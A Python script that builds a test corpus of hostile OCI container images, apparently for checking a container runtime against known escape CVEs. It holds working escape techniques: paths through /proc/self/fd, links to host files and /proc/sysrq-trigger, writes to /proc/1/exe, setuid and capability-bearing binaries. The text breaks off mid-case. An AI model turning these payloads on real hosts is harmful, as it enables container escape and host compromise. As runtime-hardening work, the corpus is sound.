"""Writes a corpus of hostile container images: `python3 images.py OUT`, where OUT does not exist yet or is empty.

OUT/images/NAME/   one image a case, as an OCI layout directory (`oci:OUT/images/NAME`) for this machine's architecture
OUT/canary/        what no container may read, change or run: `secret` (CANARY-SECRET- and random digits) and `dir/kept`, a
                   program that prints `ESCAPED kept ran`
OUT/cases.json     the cases, in the order in which they are to be run: the slow ones last

An image's own command, where the case does not replace it, tries every way to the canary that it knows, prints `ESCAPED` and
how when one works, and ends with `end` and exit code 0. What it writes is always named `berth-escaped`.

cases.json is an array of objects:

  name     unique, of a-z, 0-9 and '-'; the directory below OUT/images
  class    the CVE whose attack it is, or what it is about: layers, passwd, config, ...
  why      one sentence: what the attack tries
  recipe   what a recipe gives beside the image, often nothing: working_dir (text), user (text), command and entrypoint (lists),
           environment (mapping), volumes (list of {target, read_only}, each a named volume), tmpfs (list of targets),
           read_only and init (true)
  expect   refused: bringing the image in or launching it fails, and none of the image's commands runs
           runs: the command runs and exits with 0
           either: refused, or run with any exit code; what counts is that nothing gets out
  output   with `runs`, the exact standard output, its lines joined by newlines and without the last one; null where it is open

Only the secret is random; two corpora at the same OUT are otherwise alike."""
import gzip
import hashlib
import json
import os
import platform
import re
import secrets
import shlex
import shutil
import struct
import sys
import tarfile
from dataclasses import dataclass, field

MACHINE = platform.machine()
ARCHITECTURE = {"x86_64": "amd64", "aarch64": "arm64"}.get(MACHINE)
TAR = "application/vnd.oci.image.layer.v1.tar"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
CONFIG = "application/vnd.oci.image.config.v1+json"
APPLETS = (
    "sh ls cat echo id pwd mkdir touch cp ln mount mknod readlink stat true env head dd grep find sleep chmod hostname ps kill"
).split()
UP = "/.." * 12
MIB = 1 << 20

PASSWD = "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n"
GROUP = "root:x:0:\napp:x:1000:\n"

# $C is the canary. `true` is no special builtin, so that a failed redirection does not end the script.
PROBE = """
[ -c /dev/null ] && exec 2>/dev/null
C=%s
U=%s
look() {
  if [ -f "$1$C/secret" ] && read -r l < "$1$C/secret"; then case $l in CANARY-SECRET-*) echo "ESCAPED read $1$C/secret $l";; esac; fi
  if [ -f "$1$C/dir/kept" ] && true > "$1$C/dir/berth-escaped"; then echo "ESCAPED wrote $1$C/dir"; fi
  true > "$1/berth-escaped"
}
if [ -f ./kept ]; then echo "ESCAPED the working directory is the canary"; true > ./berth-escaped; fi
for p in '' $U . .$U /proc/1/root /proc/1/root$U /proc/1/cwd$U /proc/self/root$U /proc/self/cwd/../../.. /proc/self/cwd$U; do
  look "$p"
done
n=0
while [ $n -le 40 ]; do
  for s in '' /.. /../../../../../.. $U; do look "/proc/self/fd/$n$s"; done
  n=$((n+1))
done
echo end
"""


# ---- Small programs for what a shell cannot do ----

def program(amd64, arm64, text):
    """A static ELF file of a few instructions, followed by a text that they refer to."""
    code = bytes.fromhex(amd64 if MACHINE == "x86_64" else arm64) + text
    number = 62 if MACHINE == "x86_64" else 183
    start, size = 0x400000, 120 + len(code)
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, number, 1, start + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, start, start, size, size, 0x10000) + code


# write(1, text, 17); exit(0)
KEPT = program(
    "b801000000 bf01000000 488d3510000000 ba11000000 0f05 31ff b83c000000 0f05",
    "200080d2 e1000010 220280d2 080880d2 010000d4 000080d2 a80b80d2 010000d4",
    b"ESCAPED kept ran\n")

# exit(geteuid() == 0 || openat(AT_FDCWD, "/only-root", O_RDONLY) >= 0)
GAIN = program(
    "b86b000000 0f05 85c0 741d b801010000 bf9cffffff 488d3518000000 31d2 0f05 85c0 7904 31ff eb05 bf01000000 b83c000000 0f05",
    "e81580d2 010000d4 200100b4 600c8092 41010010 020080d2 080780d2 010000d4 6000f8b6 000080d2 02000014 200080d2 a80b80d2 010000d4",
    b"/only-root\0")


# ---- Members of a layer's tar archive; names and link targets are taken as they are ----

def member(name, kind=tarfile.REGTYPE, data=b"", target="", mode=0o644, owner=0, device=(0, 0), pax=None, form=tarfile.PAX_FORMAT):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.uid, info.gid = kind, target, mode, owner, owner
    info.size = len(data)
    info.devmajor, info.devminor = device
    info.pax_headers = pax or {}
    return info.tobuf(form, "utf-8", "surrogateescape") + padded(data)


def padded(data):
    return data + bytes(-len(data) % 512)


def file(name, data, **options):
    return member(name, data=data if isinstance(data, bytes) else data.encode(), **options)


def folder(name, mode=0o755, **options):
    return member(name, tarfile.DIRTYPE, mode=mode, **options)


def link(name, target):
    return member(name, tarfile.SYMTYPE, target=target, mode=0o777)


def hard(name, target, **options):
    return member(name, tarfile.LNKTYPE, target=target, **options)


def fifo(name, **options):
    return member(name, tarfile.FIFOTYPE, **options)


def node(name, kind, major, minor):
    return member(name, tarfile.BLKTYPE if kind == "b" else tarfile.CHRTYPE, device=(major, minor), mode=0o666)


def sparse(name, size):
    """A file in GNU's old sparse form: a hole up to its last 512 bytes."""
    header = bytearray(member(name, tarfile.GNUTYPE_SPARSE, data=bytes(512), form=tarfile.GNU_FORMAT)[:512])
    header[386:410] = tarfile.itn(size - 512, 12, tarfile.GNU_FORMAT) + tarfile.itn(512, 12, tarfile.GNU_FORMAT)
    header[483:495] = tarfile.itn(size, 12, tarfile.GNU_FORMAT)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + bytes(512)


# ---- Layers and layouts ----

def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


@dataclass
class Layer:
    """`data` is what lies in the layout, None where nothing does; the digest and size of the descriptor need not be its own."""
    data: bytes | None
    diff_id: str
    media_type: str = TAR
    digest: str = ""
    size: int = -1
    more: dict = field(default_factory=dict)

    def __post_init__(self):
        if not self.digest:
            self.digest = digest(self.data)
        if self.size < 0:
            self.size = len(self.data or b"")

    @property
    def descriptor(self):
        return {"mediaType": self.media_type, "digest": self.digest, "size": self.size, **self.more}


def pack(members, plain=False):
    data = b"".join(members) + bytes(1024)
    if plain:
        return Layer(data, digest(data))
    return Layer(gzip.compress(data, 6, mtime=0), digest(data), TAR + "+gzip")


def base_layer():
    busybox = shutil.which("busybox")
    if busybox is None:
        sys.exit("there is no busybox: install it with 'apt-get install busybox-static'")
    with open(busybox, "rb") as source:
        content = source.read()
    applets = [link(f"bin/{name}", "busybox") for name in APPLETS]
    return pack([
        folder("bin"), file("bin/busybox", content, mode=0o755), *applets,
        folder("etc"), file("etc/passwd", PASSWD), file("etc/group", GROUP),
        folder("root", 0o700), folder("tmp", 0o1777),
    ])


def encode(value):
    return json.dumps(value, separators=(",", ":")).encode()


class Corpus:
    def __init__(self, out):
        self.out = out
        self.canary = f"{out}/canary"
        self.base = base_layer()
        self.cases = []
        self.paths = {}  # of blobs, by what they hold

    def probe(self, before="", after=""):
        """The script of an image; lines of a case's own come before it or before its last."""
        text = PROBE % (shlex.quote(self.canary), UP)
        return before + text.replace("\necho end\n", f"\n{after}\necho end\n") if after else before + text

    def store(self, layout, name, data):
        path = f"{layout}/blobs/sha256/{name.removeprefix('sha256:')}"
        key = hashlib.sha256(data).digest()
        if key in self.paths:
            os.link(self.paths[key], path)
            return
        with open(path, "wb") as target:
            target.write(data)
        self.paths[key] = path

    def case(
        self, name, kind, why, expect, output=None, *, add=None, layers=None, image=None, top=None, recipe=None, before="", after="",
        raw=encode, manifest=None, index=None, finish=None):
        """One case. `add` are the members of a second layer, or `layers` all layers; `image` and `top` change the configuration,
        a None in them removes, and `raw` writes it; `before` and `after` are lines of the script. `manifest` and `index` may change those
        before they are written, and `finish` the layout afterwards: it gets the paths of the layout and of the configuration."""
        assert re.fullmatch(r"[a-z0-9-]+", name) and all(case["name"] != name for case in self.cases), name
        assert expect in ("refused", "runs", "either") and (output is None or expect == "runs"), name
        layout = f"{self.out}/images/{name}"
        os.makedirs(f"{layout}/blobs/sha256")
        if layers is None:
            layers = [self.base] + ([pack(add)] if add else [])
        # The label makes each configuration, and so each image, another one.
        settings = {"Cmd": ["/bin/sh", "-c", self.probe(before, after)], "Labels": {"case": name}, **(image or {})}
        configuration = {
            "architecture": ARCHITECTURE, "os": "linux",
            "config": {key: value for key, value in settings.items() if value is not None},
            "rootfs": {"type": "layers", "diff_ids": [layer.diff_id for layer in layers]}, **(top or {})}
        configuration = raw(configuration)
        self.store(layout, digest(configuration), configuration)
        for layer in {layer.digest: layer for layer in layers if layer.data is not None}.values():
            self.store(layout, layer.digest, layer.data)
        body = {
            "schemaVersion": 2, "mediaType": MANIFEST,
            "config": {"mediaType": CONFIG, "digest": digest(configuration), "size": len(configuration)},
            "layers": [layer.descriptor for layer in layers]}
        if manifest:
            manifest(body)
        body = encode(body)
        self.store(layout, digest(body), body)
        listing = {"schemaVersion": 2, "manifests": [{"mediaType": MANIFEST, "digest": digest(body), "size": len(body)}]}
        if index:
            index(listing)
        with open(f"{layout}/index.json", "wb") as target:
            target.write(encode(listing))
        with open(f"{layout}/oci-layout", "w") as target:
            target.write('{"imageLayoutVersion": "1.0.0"}')
        if finish:
            finish(layout, f"{layout}/blobs/sha256/{digest(configuration)[7:]}")
        self.cases.append({"name": name, "class": kind, "why": why, "recipe": recipe or {}, "expect": expect, "output": output})


# ---- The families ----

def working_directories(corpus):
    canary, runc = corpus.canary, "CVE-2024-21626"
    where = {"before": "pwd; /bin/id -u"}

    def case(name, path, why, expect, output=None, kind=runc, user=None, **options):
        corpus.case(f"workdir-{name}", kind, why, expect, output, image={"WorkingDir": path, "User": user}, **options)

    for number in (3, 5, 7, 8, 9, 10, 18):
        case(f"proc-self-fd-{number}", f"/proc/self/fd/{number}", f"The working directory is descriptor {number} of the launcher.", "refused")
        case(
            f"proc-self-fd-{number}-canary", f"/proc/self/fd/{number}{UP}{canary}/dir",
            f"The working directory climbs out of descriptor {number} to a directory of the host.", "refused")
    case("thread-self-fd-7", "/proc/thread-self/fd/7", "The working directory is a descriptor, named through the thread's own directory.", "refused")
    case("dev-fd-7-up", f"/dev/fd/7/..{UP}{canary}", "The working directory climbs out of a descriptor, named through /dev/fd.", "refused")
    case("proc-self-fd-7-plain-user", "/proc/self/fd/7", "The same attack for a user who is not root.", "refused", user="1000")
    for name, path in (
        ("proc-self-cwd", "/proc/self/cwd"), ("proc-1-cwd", f"/proc/1/cwd{UP}{canary}"), ("proc-self-root", f"/proc/self/root{UP}{canary}")):
        case(name, path, f"The working directory is what {path} shows before the sandbox is complete.", "either")
    case(
        "relative", "app/data", "A relative working directory could be taken from where the launcher stands.", "runs", "/app/data\n0\nend", "config",
        **where)
    case("relative-up", "../../x", "A relative working directory climbs from where the launcher stands.", "either", kind="config")
    case("dotdot", "..", "The working directory is the parent of where the launcher stands.", "either", kind="config")
    case("nul", "/tmp\0/../../..", "What follows a NUL in the working directory is checked but not used.", "refused", kind="config")
    case("long", "/aaaaaaaaa" * 500, "A path of 5000 characters overruns a buffer for paths.", "refused", kind="config")
    case("200-levels", "/d" * 200, "A missing working directory is made in 200 steps.", "runs", "end", "config")
    case(
        "missing-plain-user", "/srv/new/deep", "A directory that root makes is entered by a plain user.", "runs", "/srv/new/deep\n1000\nend",
        "config", user="1000", **where)
    case(
        "file", "/app", "A file lies where the working directory should be.", "refused", kind="CVE-2018-15664", add=[file("app", "no directory\n")])
    case(
        "no-permission", "/app", "The launcher enters as root a directory that the user may not enter.", "either", kind="config", user="1000",
        add=[folder("app", 0o700)])
    for name, target, expect, why in (
        ("link-fd", f"/proc/self/fd/18/..{UP}{canary}/dir", "refused", "A link of the image leads through a descriptor to the host."),
        ("link-link-fd", "first", "refused", "A chain of links of the image ends in a descriptor."),
        ("link-root", f"/proc/self/root/../..{canary}", "either", "A link of the image climbs above /proc/self/root."),
        ("link-canary", f"..{UP}{canary}/dir", "either", "A link of the image climbs above the root to a directory of the host."),
        ("link-loop", "/app", "refused", "A link of the image names itself."),
    ):
        chain = [link("first", "second"), link("second", "/proc/self/fd/7")] if target == "first" else []
        case(name, "/app", why, expect, kind=runc if "fd" in name else "CVE-2018-15664", add=[link("app", target)] + chain)
    for name, target, expect in (
        ("fd", "/proc/self/fd/18/..", "refused"), ("cwd", f"/proc/self/cwd{UP}", "either"), ("canary", f"..{UP}{canary}/dir", "either")):
        corpus.case(
            f"recipe-workdir-link-{name}", runc if "fd" in name else "CVE-2018-15664",
            "The recipe's working directory lies below a link of the image that leads out.", expect,
            add=[link("app", target)], recipe={"working_dir": "/app/data"})


def entrypoints(corpus):
    canary, exe = corpus.canary, "CVE-2019-5736"
    rest = ["-c", corpus.probe()]

    def case(name, words, why, expect, output=None, kind="CVE-2024-21626", command=rest, environment=None, **options):
        corpus.case(name, kind, why, expect, output, image={"Entrypoint": words, "Cmd": command, "Env": environment}, **options)

    case("entry-proc-self-exe", ["/proc/self/exe"], "The command is the launcher's own program on the host.", "either", kind=exe)
    case(
        "entry-link-proc-self-exe", ["/entry"], "A link of the image leads to the launcher's own program.", "either", kind=exe,
        add=[link("entry", "/proc/self/exe")])
    case(
        "entry-script-proc-self-exe", ["/entry"], "A script names the launcher's own program as its interpreter.", "either", kind=exe,
        add=[file("entry", "#!/proc/self/exe\n", mode=0o755)])
    corpus.case(
        "init-proc-1-exe", exe, "The command opens the program of the container's init, a file of the host, for writing.", "runs", "end",
        after='true >> /proc/1/exe && echo "ESCAPED opened /proc/1/exe"', recipe={"init": True})
    case("entry-fd-7-shell", ["/proc/self/fd/7/../../bin/sh"], "The command climbs out of a descriptor that is open until it starts.", "refused")
    case("entry-fd-18-shell", ["/proc/self/fd/18/../../bin/sh"], "The command climbs out of a descriptor that is open until it starts.", "refused")
    case(
        "entry-fd-18-kept", [f"/proc/self/fd/18{UP}{canary}/dir/kept"], "The command is a program of the host, reached through a descriptor.",
        "refused")
    case("entry-self-root", ["/proc/self/root/../bin/sh"], "The command climbs above /proc/self/root.", "either")
    case(
        "entry-link-fd", ["/entry"], "A link of the image leads through a descriptor to a program of the host.", "refused",
        add=[link("entry", f"/proc/self/fd/7{UP}{canary}/dir/kept")])
    case(
        "entry-script-fd", ["/entry"], "A script's interpreter is reached through a descriptor.", "refused",
        add=[file("entry", "#!/proc/self/fd/7/../../bin/sh\n" + corpus.probe(), mode=0o755)])
    case("entry-absent", ["/bin/absent"], "The command is not there.", "refused", kind="config")
    case("entry-directory", ["/etc"], "The command is a directory.", "refused", kind="config")
    case("entry-empty", [""], "The command is an empty text.", "refused", kind="config")
    case("entry-nul", ["/bin/sh\0/../../absent"], "What follows a NUL in the command is checked but not used.", "refused", kind="config")
    case(
        "entry-relative", ["./x"], "A relative command could be taken from where the launcher stands.", "runs", "end", "config", command=None,
        add=[file("x", "#!/bin/sh\n" + corpus.probe(), mode=0o755)])
    everywhere = ":".join(f"/proc/self/fd/{number}{UP}{canary}/dir" for number in range(3, 41))
    case(
        "path-every-fd", ["kept"], "PATH looks for a program of the host behind every descriptor.", "refused", command=None,
        environment=[f"PATH={everywhere}"])
    case(
        "path-fd-then-bin", ["sh"], "PATH begins behind a descriptor, and the program is also in the image.", "runs", "end",
        environment=["PATH=/proc/self/fd/18/../../bin:/bin"])
    case(
        "path-empty-elements", ["x"], "Empty elements of PATH mean the working directory.", "either", kind="config", command=None,
        environment=["PATH=::"], add=[file("x", "#!/bin/sh\n" + corpus.probe(), mode=0o755)])
    case("path-relative", ["sh"], "Relative elements of PATH could be taken from where the launcher stands.", "runs", "end", "config",
         environment=["PATH=absent:../../../absent:/bin"])
    case(
        "preload-fd", ["/bin/sh"], "The image's environment makes the launcher load a library of the host.", "runs", "end",
        environment=[f"LD_PRELOAD=/proc/self/fd/18{UP}{canary}/dir/kept", f"LD_LIBRARY_PATH=/proc/self/fd/7{UP}{canary}/dir"])
    corpus.case(
        "entry-fifo-shell", "layers", "The shell is a FIFO, and whoever opens it waits for ever.", "refused",
        add=[folder("bin"), fifo("bin/sh", mode=0o755)])


def users(corpus):
    def case(name, user, why, expect, output=None, kind="passwd", add=None):
        corpus.case(name, kind, why, expect, output, image={"User": user}, add=add, before="/bin/id -u")

    for name, user in (
        ("three-parts", "0:0:0"), ("minus-one", "-1"), ("twenty-digits", "9" * 20), ("absent-group", "root:nobodygroup"), ("space", " "),
        ("newline", "app\nroot:x:0:0"), ("plus-zero", "+0"), ("long", "a" * 5000)):
        case(f"user-{name}", user, "A user that is none is taken for one, perhaps for root.", "refused")
    case("user-4294967295", "4294967295", "The number means 'no change' to the kernel, and the user stays root.", "refused", kind="CVE-2024-40635")
    case("user-4294967296", "4294967296", "The number wraps to 0.", "refused", kind="CVE-2024-40635")
    case("user-group-4294967296", "1000:4294967296", "The group's number wraps to 0.", "refused", kind="CVE-2024-40635")
    case("user-nul", "0\0app", "What follows a NUL in the user is checked but not used.", "refused", kind="config")
    for name, user in (("empty-group", "app:"), ("empty-name", ":0"), ("colon", ":")):
        case(f"user-{name}", user, "An empty part of the user is taken for 0.", "either")
    case("user-one", "1", "User 1 is taken for root.", "runs", "1\nend", "CVE-2026-30892")
    case(
        "user-numeric-name", "1000", "An account whose name is 1000 has the number 0.", "runs", "1000\nend", "CVE-2016-3697",
        [folder("etc"), file("etc/passwd", "1000:x:0:0::/:/bin/sh\n" + PASSWD)])
    case(
        "user-huge-numeric-name", "4294967296", "A number that is too large is looked up as a name, and that account is root.", "refused",
        kind="CVE-2026-46680", add=[folder("etc"), file("etc/passwd", "4294967296:x:0:0::/:/bin/sh\n" + PASSWD)])


def accounts(corpus):
    def case(name, user, why, expect, output=None, *, kind="passwd", entry=None, text=None):
        add = [folder("etc"), entry if text is None else file("etc/passwd", text)]
        corpus.case(f"passwd-{name}", kind, why, expect, output, image={"User": user}, add=add, before="/bin/id -u 2>/dev/null")

    line = "junk:x:60000:60000:" + "-" * 480 + ":/:/bin/false\n"
    late = "late:x:4242:4242::/:/bin/sh\n"
    case("link-canary", "app", "The account file is a link to a file of the host.", "refused", kind="CVE-2018-15664",
         entry=link("etc/passwd", f"{corpus.canary}/secret"))
    case("link-fd", "app", "The account file is a link to a descriptor of the launcher.", "refused", kind="CVE-2024-21626",
         entry=link("etc/passwd", "/proc/self/fd/7"))
    case("fifo", "app", "The account file is a FIFO, and whoever opens it waits for ever.", "refused", entry=fifo("etc/passwd"))
    case("directory", "app", "The account file is a directory.", "refused", entry=folder("etc/passwd"))
    case("missing", "app", "There is no account file.", "refused", entry=file("etc/.wh.passwd", ""))
    case("missing-number", "1000", "There is no account file, and a number needs none.", "runs", "1000\nend", entry=file("etc/.wh.passwd", ""))
    case("late", "late", "The account stands behind 2 MiB of others.", "runs", "4242\nend", text=line * (2 * MIB // len(line) + 1) + late)
    case("40-mib", "late", "The account file takes 40 MiB of memory.", "either", text=line * (40 * MIB // len(line)) + late)
    case("fields", "app", "Lines with too few or too many fields are taken for accounts of root.", "runs", "1000\nend",
         text="app\napp:\napp:x\n:::::::\n" + ":" * 5000 + "\nother:x:0:0:a:b:c:d:e:f\nno line\n" + PASSWD)
    case("negative", "low", "A negative number wraps.", "refused", text=PASSWD + "low:x:-4294967296:-4294967296::/:/bin/sh\n")
    case("overflow", "high", "A number wraps to 0.", "refused", kind="CVE-2024-40635",
         text=PASSWD + "high:x:4294967296:18446744073709551616::/:/bin/sh\n")
    case("nul", "app", "A NUL ends the name for one reader and not for another.", "either", text="app\0er:x:0:0::/:/bin/sh\n" + PASSWD)
    case("twice", "app", "An account is there twice, the second time as root.", "runs", "1000\nend", text=PASSWD + "app:x:0:0::/:/bin/sh\n")
    groups = "".join(f"g{number}:x:{number}:app,root\n" for number in range(2000, 7000))
    corpus.case(
        "group-5000", "passwd", "The user is in 5000 groups.", "runs", "1000\nend", image={"User": "app"},
        add=[folder("etc"), file("etc/group", GROUP + groups)], before="/bin/id -u")


def sandbox_places(corpus):
    canary = corpus.canary

    def case(name, kind, why, expect, add, **options):
        corpus.case(name, kind, why, expect, "end" if expect == "runs" else None, add=add, **options)

    links = "CVE-2019-19921"
    why = "Something else lies where the sandbox mounts its own file systems."
    case("place-dev-link-canary", links, why, "refused", [link("dev", canary)])
    case("place-dev-link-proc", links, why, "refused", [link("dev", "proc"), link("proc", "dev")])
    case("place-dev-file", links, why, "refused", [file("dev", "")])
    case("place-dev-device", links, why, "refused", [node("dev", "c", 1, 3)])
    case("place-proc-link-canary", links, why, "refused", [link("proc", f"..{UP}{canary}/dir")])
    case("place-proc-link-inside", links, why, "refused", [folder("tmp", 0o1777), folder("tmp/proc"), link("proc", "tmp/proc")])
    case("place-proc-hard-link", links, why, "refused", [folder("etc"), file("etc/motd", ""), hard("proc", "etc/motd")])
    case("place-sys-link-dev", links, why, "refused", [link("sys", "/dev")])
    case(
        "place-proc-through-volume", links, "A volume lies below the link that stands for /proc.", "refused",
        [folder("vol"), link("proc", "vol/proc")], recipe={"volumes": [{"target": "/vol", "read_only": False}]})
    covered = "What the image has there must be covered, not followed."
    devices = ("null", "zero", "full", "random", "urandom", "tty")
    case("dev-null-link-fd", "CVE-2025-31133", covered, "runs", [folder("dev")] + [link(f"dev/{name}", "/proc/self/fd/6") for name in devices])
    case(
        "dev-console-link", "CVE-2025-52565", covered, "runs",
        [folder("dev"), link("dev/console", "/proc/sysrq-trigger"), folder("dev/pts"), link("dev/pts/0", "/proc/sysrq-trigger")])
    inner = ("pts", "shm", "mqueue", "ptmx", "fd", "stdin", "stdout", "stderr")
    case("dev-links", "CVE-2025-52565", covered, "runs", [folder("dev")] + [link(f"dev/{name}", f"{canary}/dir") for name in inner])
    case("dev-files", "CVE-2025-52565", covered, "runs", [folder("dev")] + [file(f"dev/{name}", "") for name in inner + devices])
    case(
        "proc-inner-links", "CVE-2025-52881", covered, "runs",
        [folder("proc"), link("proc/sys", f"{canary}/dir"), link("proc/self", "/"), link("proc/kcore", f"{canary}/secret"),
         link("proc/sysrq-trigger", f"{canary}/dir/kept")])
    case(
        "sys-inner-links", "CVE-2025-52881", covered, "runs",
        [folder("sys"), folder("sys/fs"), link("sys/fs/cgroup", f"{canary}/dir"), link("sys/firmware", "/proc/self/fd")])
    given = "What the sandbox puts into /etc goes through a link of the image."
    climbing, scope = f"..{UP}{canary}", "CVE-2018-15664"
    case("etc-link-canary", scope, given, "either", [link("etc", f"{canary}/dir")])
    case("etc-link-up-canary", scope, given, "either", [link("etc", f"{climbing}/dir")])
    case("etc-link-proc", "CVE-2025-52881", given, "refused", [link("etc", "/proc")])
    case("etc-file", scope, given, "either", [file("etc", "")])
    case("etc-resolv-link-canary", scope, given, "runs", [folder("etc"), link("etc/resolv.conf", f"{canary}/secret")])
    case("etc-hosts-link-canary", scope, given, "runs", [folder("etc"), link("etc/hosts", f"../{climbing}/secret")])
    case("etc-resolv-link-fd", "CVE-2024-21626", given, "either", [folder("etc"), link("etc/resolv.conf", "/proc/self/fd/7")])
    case("etc-hosts-link-sysrq", "CVE-2025-52881", given, "either", [folder("etc"), link("etc/hosts", "/proc/sysrq-trigger")])
    case("etc-odd-files", scope, given, "either", [folder("etc"), fifo("etc/hosts"), node("etc/resolv.conf", "b", 8, 0)])
    case(
        "etc-link-read-only", scope, given, "runs", [folder("etc"), link("etc/resolv.conf", "../run/absent/resolv.conf")], recipe={"read_only": True})


def volumes(corpus):
    canary = corpus.canary

    def case(name, kind, why, expect, add, targets=("/data",), temporary=(), read_only=False):
        recipe = {"volumes": [{"target": target, "read_only": read_only} for target in targets]} if targets else {}
        if temporary:
            recipe["tmpfs"] = list(temporary)
        corpus.case(name, kind, why, expect, "end" if expect == "runs" else None, add=add, recipe=recipe)

    why = "A link of the image leads a volume's target into the sandbox's own file systems."
    for name, target, kind in (
        ("dev", "/dev", "CVE-2025-31133"), ("dev-pts", "/dev/pts", "CVE-2025-52565"), ("dev-shm", "/dev/shm", "CVE-2025-52565"),
        ("proc", "/proc", "CVE-2019-16884"), ("proc-1", "/proc/1", "CVE-2019-16884"), ("proc-self-fd", "/proc/self/fd", "CVE-2024-21626"),
        ("sys-kernel", "/sys/kernel", "CVE-2025-52881"),
        ("cgroup", "/sys/fs/cgroup", "CVE-2025-52881")):
        case(f"volume-link-{name}", kind, why, "refused", [link("data", target)])
    case(
        "volume-link-dev-null", "CVE-2025-31133", "A volume replaces /dev, in which the image has a link for /dev/null.", "refused",
        [link("data", "../dev"), folder("dev"), link("dev/null", "/proc/self/fd/6")])
    case("volume-below-link-proc", "CVE-2019-16884", why, "refused", [link("a", "/proc")], ["/a/b"])
    case("volume-link-chain-proc", "CVE-2019-16884", why, "refused", [link("data", "one"), link("one", "tmp/../two"), link("two", "proc/sys")])
    case("volume-link-root", "CVE-2018-15664", "A link of the image leads a volume's target to the root itself.", "either", [link("data", "/")])
    outside = "A link of the image leads a volume's target to a directory of the host."
    case("volume-link-canary", "CVE-2018-15664", outside, "runs", [link("data", canary)])
    case("volume-link-up-canary", "CVE-2018-15664", outside, "runs", [link("data", f"..{UP}{canary}/dir")], read_only=True)
    case(
        "volume-hides-another", "CVE-2018-15664", "A link of the image leads one volume over the parent of another.", "runs",
        [folder("a"), link("long-name", "a")], ["/a/b", "/long-name"])
    case("volume-in-volume", "CVE-2019-19921", "A volume's target lies in another volume, behind a link of the image.", "runs",
         [folder("top"), link("top/inner", f"{canary}/dir")], ["/top", "/top/inner/x"])
    case("tmpfs-link-dev", "CVE-2025-31133", why, "refused", [link("data", "/dev")], (), ["/data"])
    case("tmpfs-link-proc", "CVE-2019-16884", why, "refused", [link("data", "../../proc/self")], (), ["/data/x"])
    case("tmpfs-link-canary", "CVE-2018-15664", outside, "runs", [link("data", f"{canary}/dir")], (), ["/data"])


def layers(corpus):
    canary = corpus.canary
    inside = canary[1:]
    escaped = b"berth-escaped\n"

    def case(name, why, expect, *contents, output=None, **options):
        """`contents` are the members of the layers above the base."""
        if expect == "runs" and output is None:
            output = "end"
        corpus.case(f"layer-{name}", "layers", why, expect, output, layers=[corpus.base] + [pack(members) for members in contents], **options)

    case(
        "name-up", "A file's name climbs out of the layer.", "either",
        [file("../../berth-escaped", escaped), file(f"..{UP}/berth-escaped", escaped)])
    case("name-up-canary", "A file's name climbs to a directory of the host.", "either", [file(f"..{UP}{canary}/dir/berth-escaped", escaped)])
    case("name-absolute", "A file's name is absolute.", "either", [file(f"{canary}/dir/berth-escaped", escaped)])
    case(
        "link-parent", "A file's parent is a link to a directory of the host.", "either",
        [link("x", f"{canary}/dir"), file("x/berth-escaped", escaped)])
    case(
        "link-parent-two-layers", "A file's parent is a link that the layer below has made.", "either", [link("x", f"..{UP}{canary}/dir")],
        [file("x/berth-escaped", escaped)])
    stolen = {"after": 'read -r l < /stolen && echo "ESCAPED /stolen $l"'}
    case("hard-link-absolute", "A hard link gives a file of the host to the container.", "either", [hard("stolen", f"{canary}/secret")], **stolen)
    case("hard-link-up", "A hard link climbs to a file of the host.", "either", [hard("stolen", f"..{UP}{canary}/secret")], **stolen)
    case(
        "hard-link-to-link", "A hard link to a link is made, or its mode is set, where the link leads.", "either",
        [link("x", f"{canary}/secret"), hard("stolen", "x", mode=0o4777)], **stolen)
    case(
        "hard-link-parent-link", "A hard link's target goes through a link to a directory of the host.", "either",
        [link("x", canary), hard("stolen", "x/secret")], **stolen)
    case(
        "whiteout-link", "A whiteout removes a file of the host through a link.", "either", [link("x", f"{canary}/dir")],
        [file("x/.wh.kept", ""), file(f"{inside}/.wh.secret", "")])
    case(
        "opaque-link", "An opaque mark empties a directory of the host through a link.", "either", [link("x", f"..{UP}{canary}/dir")],
        [file("x/.wh..wh..opq", "")])
    case("whiteout-parent", "A whiteout names the parent directory.", "either", [folder("a"), file("a/.wh...", ""), file(".wh...", "")])
    case("whiteout-self", "A whiteout names its own directory, or nothing.", "either", [folder("a"), file("a/.wh..", ""), file("a/.wh.", "")])
    case("whiteout-device", "A device with the numbers of a whiteout stands in the layer.", "either", [folder("etc"), node("etc/passwd", "c", 0, 0)])
    reading = "\n".join(f'dd if=/node/{name} of=/tmp/out bs=512 count=1 && echo "ESCAPED {name}"' for name in ("sda", "vda", "mem", "kmsg"))
    case(
        "devices", "Nodes of the host's disks and memory are in the layer, for all to read.", "runs",
        [folder("node"), node("node/sda", "b", 8, 0), node("node/vda", "b", 254, 0), node("node/mem", "c", 1, 1), node("node/kmsg", "c", 1, 11)],
        after=reading)
    # 126: the kernel does not even execute it.
    gain = "/bin/gain 2>/dev/null; case $? in 0|126) echo 1000;; *) echo ESCAPED;; esac"
    private = [folder("bin"), file("only-root", "private\n", mode=0o600)]
    case(
        "setuid", "A program of the layer makes a plain user root.", "runs", private + [file("bin/gain", GAIN, mode=0o6755)], output="1000\nend",
        image={"User": "1000"}, before=gain)
    # struct vfs_cap_data, revision 2, effective: DAC_OVERRIDE and DAC_READ_SEARCH
    capability = {"SCHILY.xattr.security.capability": "\1\0\0\2" + "\6\0\0\0" + "\0" * 12}
    case(
        "file-capability", "A program of the layer gives a plain user capabilities.", "runs",
        private + [file("bin/gain", GAIN, mode=0o755, pax=capability)], output="1000\nend", image={"User": "1000"}, before=gain)

    def overlay(space, **values):
        return {f"SCHILY.xattr.{space}.overlay.{name}": value for name, value in values.items()}

    case(
        "xattr-opaque", "The layer marks directories opaque by itself.", "either",
        [folder("etc", pax=overlay("trusted", opaque="y")), folder("bin", pax=overlay("trusted", opaque="x"))])
    case(
        "xattr-redirect", "The layer redirects a directory to one of the host.", "either",
        [folder("x", pax=overlay("trusted", redirect="/../../.." + canary)), folder("y", pax=overlay("trusted", redirect=canary)),
         folder("z", pax=overlay("trusted", redirect="../../../.."))], after="cat /x/* /y/* /z/*")
    case(
        "xattr-metacopy", "The layer says that a file's content is elsewhere.", "either",
